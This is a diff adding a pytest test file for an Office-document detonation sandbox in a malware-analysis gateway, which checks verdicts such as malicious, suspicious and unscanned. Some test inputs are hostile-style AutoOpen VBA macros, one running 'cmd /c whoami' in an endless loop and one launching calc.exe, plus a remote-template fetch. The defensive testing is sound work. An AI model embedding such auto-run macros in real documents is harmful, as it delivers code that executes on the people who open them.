@@ -1,0 +1,111 @@
+"""The environment `office`: its contract, every sample, and what ends a run early."""
+
+from __future__ import annotations
+
+import pytest
+
+from gateway.emulation import (
+    Budget,
+    Context,
+    Detonation,
+    Environment,
+    Sample,
+    StopKind,
+    judge,
+    load_rules,
+)
+from gateway.emulation.scripts import ScriptEnvironment, office_environment
+from gateway.model import Verdict
+from gateway.sandbox.blocking import BlockingGuests
+from tests.unit.emulation.contract_suite import EnvironmentContract
+from tools.corpus.detections import OFFICE_BAD, OFFICE_HONEST, Case, office_files
+
+RULES = load_rules()
+BUDGET = Budget(seconds=10.0)
+
+
+@pytest.fixture
+def office(guests: BlockingGuests) -> ScriptEnvironment:
+    return office_environment(guests)
+
+
+class TestOffice(EnvironmentContract):
+    @pytest.fixture
+    def environment(self, office: ScriptEnvironment) -> Environment:
+        return office
+
+
+def _run(
+    office: ScriptEnvironment, data: bytes, kind: str = "docm", budget: Budget = BUDGET
+) -> Detonation:
+    return office.detonate(Sample(f"d.{kind}", kind, data), Context(), budget)
+
+
+@pytest.mark.parametrize("case", OFFICE_BAD, ids=lambda case: case.name)
+def test_bad_sample_is_malicious(case: Case, office: ScriptEnvironment) -> None:
+    result = office.detonate(Sample(case.name, case.type, case.make()), Context(), BUDGET)
+    judgement = judge(result, RULES)
+    assert judgement.verdict is Verdict.MALICIOUS, result
+    assert case.rule in [hit.rule.id for hit in judgement.hits]
+
+
+@pytest.mark.parametrize("case", OFFICE_HONEST, ids=lambda case: case.name)
+def test_honest_sample_is_clean(case: Case, office: ScriptEnvironment) -> None:
+    result = office.detonate(Sample(case.name, case.type, case.make()), Context(), BUDGET)
+    judgement = judge(result, RULES)
+    assert judgement.verdict is Verdict.CLEAN, (judgement, result)
+
+
+def test_a_macro_that_only_starts_a_program_is_suspicious(office: ScriptEnvironment) -> None:
+    data = office_files.docm('Sub AutoOpen()\nShell "calc.exe", vbNormalFocus\nEnd Sub\n')
+    assert judge(_run(office, data), RULES).verdict is Verdict.SUSPICIOUS
+
+
+def test_a_template_of_the_network_is_told(office: ScriptEnvironment) -> None:
+    result = _run(office, office_files.docx_template("http://t.example/a.dotm"), "docx")
+    assert "t.example:80" in [behaviour.target for behaviour in result.behaviours]
+    assert judge(result, RULES).verdict is Verdict.SUSPICIOUS
+
+
+def test_files_inside_come_back_as_children(office: ScriptEnvironment) -> None:
+    result = _run(office, office_files.docx_package("notes.txt", b"words"), "docx")
+    assert [(child.path, child.data) for child in result.children] == [("notes.txt", b"words")]
+
+
+def test_a_macro_without_end_is_stopped_and_what_it_did_is_kept(office: ScriptEnvironment) -> None:
+    source = 'Sub AutoOpen()\nShell "cmd /c whoami"\nDo\nLoop\nEnd Sub\n'
+    result = _run(office, office_files.docm(source), budget=Budget(seconds=1.0))
+    assert result.stopped_by is not None
+    assert result.stopped_by.kind is StopKind.TIMED_OUT
+    assert judge(result, RULES).verdict is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'Sub AutoOpen()\nSet x = CreateObject("No.Such.Thing")\nEnd Sub\n',
+        "Sub AutoOpen()\nFor For For\nEnd Sub\n",
+    ],
+)
+def test_a_macro_not_seen_to_its_end_is_unscanned(office: ScriptEnvironment, source: str) -> None:
+    result = _run(office, office_files.docm(source))
+    assert result.stopped_by is not None
+    assert result.stopped_by.kind is StopKind.INCOMPLETE
+    assert judge(result, RULES).verdict is Verdict.UNSCANNED
+
+
+@pytest.mark.parametrize("kind", ["docm", "ole-xls", "pptm"])
+@pytest.mark.parametrize("data", [b"", b"PK\x03\x04garbage", b"\xd0\xcf\x11\xe0" + bytes(600)])
+def test_what_is_no_document_is_unscanned(
+    office: ScriptEnvironment, kind: str, data: bytes
+) -> None:
+    result = _run(office, data, kind)
+    assert result.stopped_by is not None
+    assert judge(result, RULES).verdict is Verdict.UNSCANNED
+
+
+def test_cut_off_documents_end_in_words(office: ScriptEnvironment) -> None:
+    whole = office_files.xls("Sub Auto_Open()\nEnd Sub\n")
+    for size in range(0, len(whole), len(whole) // 12):
+        result = _run(office, whole[:size], "ole-xls")
+        assert result.stopped_by is None or len(result.stopped_by.detail) > 5
